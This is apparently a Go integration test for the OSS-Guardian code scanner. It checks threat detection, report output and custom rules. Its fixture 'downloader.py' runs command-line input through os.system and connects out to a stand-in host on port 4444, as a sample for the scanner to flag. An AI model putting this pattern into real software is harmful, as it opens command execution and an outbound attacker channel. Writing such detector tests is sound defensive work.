package integration

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"go.uber.org/zap"

	"github.com/SunXiangyuNico/OSS-Guardian/internal/config"
	"github.com/SunXiangyuNico/OSS-Guardian/internal/core"
	"github.com/SunXiangyuNico/OSS-Guardian/pkg/models"
)

const maliciousPython = `import os
import sys
import socket

cmd = sys.argv[1]
os.system(cmd)

s = socket.socket()
s.connect(("203.0.113.7", 4444))
`

const cleanGo = `package main

import "fmt"

func main() {
	fmt.Println("hello")
}
`

func writeProject(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	files := map[string]string{
		"downloader.py":    maliciousPython,
		"main.go":          cleanGo,
		"README.md":        "# demo project\n",
		"requirements.txt": "requests==2.31.0\nflask>=2.0\n",
	}
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(root, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func pipelineConfig(root string) *config.Config {
	return &config.Config{
		Workers:      2,
		MaxSize:      "2M",
		Exclude:      []string{".git", "node_modules"},
		EnableTaint:  true,
		EnableCFG:    true,
		EnableSyntax: true,
		EnableDeps:   true,
		ReportFormat: "json",
		OutputFile:   filepath.Join(root, "report.json"),
	}
}

func TestPipelineEndToEnd(t *testing.T) {
	root := writeProject(t)
	cfg := pipelineConfig(root)

	scanner := core.NewScanner(cfg, zap.NewNop())
	results, err := scanner.Scan(root)
	if err != nil {
		t.Fatalf("Scan() error = %v", err)
	}

	// README.md is not a supported source file
	if results.TotalFiles != 2 {
		t.Errorf("total_files = %d, want 2", results.TotalFiles)
	}
	if results.AnalyzedFiles != 2 {
		t.Errorf("analyzed_files = %d, want 2", results.AnalyzedFiles)
	}
	if results.ThreatsFound() == 0 {
		t.Fatal("no threats found in malicious python file")
	}
	if results.Risk == nil || results.Risk.Score < 50 {
		t.Errorf("project risk = %+v, want score >= 50", results.Risk)
	}

	var malicious, clean *models.AnalysisResult
	for _, r := range results.Results {
		switch filepath.Base(r.FilePath) {
		case "downloader.py":
			malicious = r
		case "main.go":
			clean = r
		}
	}
	if malicious == nil || clean == nil {
		t.Fatalf("results missing expected files: %+v", results.Results)
	}

	categories := make(map[models.ThreatCategory]bool)
	for _, threat := range malicious.Threats {
		categories[threat.Category] = true
	}
	if !categories[models.ThreatRCE] {
		t.Errorf("threats = %+v, want RCE", malicious.Threats)
	}
	if !categories[models.ThreatCommandInjection] {
		t.Errorf("threats = %+v, want command injection from sys.argv flow", malicious.Threats)
	}
	if len(malicious.Static.Dependencies) == 0 {
		t.Error("requirements.txt dependencies not extracted")
	}
	if len(clean.Threats) != 0 {
		t.Errorf("clean go file has threats: %+v", clean.Threats)
	}

	// The JSON report round-trips to the same results
	data, err := os.ReadFile(cfg.OutputFile)
	if err != nil {
		t.Fatalf("report not written: %v", err)
	}
	var decoded models.ProjectResults
	if err := json.Unmarshal(data, &decoded); err != nil {
		t.Fatalf("report is not valid JSON: %v", err)
	}
	if decoded.TotalFiles != results.TotalFiles {
		t.Errorf("decoded total_files = %d, want %d", decoded.TotalFiles, results.TotalFiles)
	}
	if len(decoded.Results) != len(results.Results) {
		t.Errorf("decoded results = %d, want %d", len(decoded.Results), len(results.Results))
	}
}

func TestPipelineMarkdownReport(t *testing.T) {
	root := writeProject(t)
	cfg := pipelineConfig(root)
	cfg.ReportFormat = "markdown"
	cfg.OutputFile = filepath.Join(root, "report.md")

	scanner := core.NewScanner(cfg, zap.NewNop())
	if _, err := scanner.Scan(root); err != nil {
		t.Fatalf("Scan() error = %v", err)
	}

	data, err := os.ReadFile(cfg.OutputFile)
	if err != nil {
		t.Fatalf("report not written: %v", err)
	}
	content := string(data)
	for _, want := range []string{
		"# OSS Guardian Analysis Report",
		"downloader.py",
		"## Risk by File",
	} {
		if !strings.Contains(content, want) {
			t.Errorf("markdown report missing %q", want)
		}
	}
}

func TestPipelineCustomRules(t *testing.T) {
	root := writeProject(t)

	rulesDir := filepath.Join(root, "rules")
	if err := os.MkdirAll(rulesDir, 0o755); err != nil {
		t.Fatal(err)
	}
	ruleFile := `rules:
  - id: custom_rce_marker
    name: Custom marker
    pattern: 'MARKER_XYZ'
    severity: critical
    language: python
`
	if err := os.WriteFile(filepath.Join(rulesDir, "custom.yaml"), []byte(ruleFile), 0o644); err != nil {
		t.Fatal(err)
	}
	target := filepath.Join(root, "marked.py")
	if err := os.WriteFile(target, []byte("x = 'MARKER_XYZ'\n"), 0o644); err != nil {
		t.Fatal(err)
	}

	cfg := pipelineConfig(root)
	cfg.ReportFormat = ""
	cfg.RulesPath = rulesDir

	scanner := core.NewScanner(cfg, zap.NewNop())
	results, err := scanner.Scan(target)
	if err != nil {
		t.Fatalf("Scan() error = %v", err)
	}
	if len(results.Results) != 1 {
		t.Fatalf("results = %+v", results.Results)
	}

	found := false
	for _, m := range results.Results[0].Static.PatternMatches {
		if m.RuleID == "custom_rce_marker" {
			found = true
		}
	}
	if !found {
		t.Errorf("custom rule did not match: %+v", results.Results[0].Static.PatternMatches)
	}
}
